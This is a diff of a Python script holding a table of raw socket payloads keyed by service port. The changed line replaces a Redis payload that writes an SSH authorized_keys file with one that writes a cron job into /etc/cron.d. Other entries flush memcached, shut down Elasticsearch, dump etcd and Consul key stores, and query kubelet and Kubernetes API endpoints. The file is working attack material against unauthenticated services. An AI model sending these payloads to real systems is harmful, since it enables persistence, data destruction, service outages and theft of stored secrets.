@@ -1,7 +1,7 @@
 import socket
 
 LINES = {
-    6379: "CONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\nSET a ssh-rsa\r\nSAVE\r\n",
+    6379: "CONFIG SET dir /etc/cron.d\r\nCONFIG SET dbfilename a\r\nSET a job\r\nSAVE\r\n",
     5432: "\0\0\0\x17\0\x03\0\0user\0postgres\0\0", 11211: "flush_all\r\n", 9200: "POST /_shutdown HTTP/1.0\r\n\r\n",
     2379: "GET /v2/keys/?recursive=true HTTP/1.0\r\n\r\n", 8500: "GET /v1/kv/?recurse HTTP/1.0\r\n\r\n", 3306: "", 27017: "",
     10250: "GET /runningpods/ HTTP/1.0\r\n\r\n", 6443: "GET /api HTTP/1.0\r\n\r\n", 9000: "\x01\x01\0\x01\0\x08\0\0",
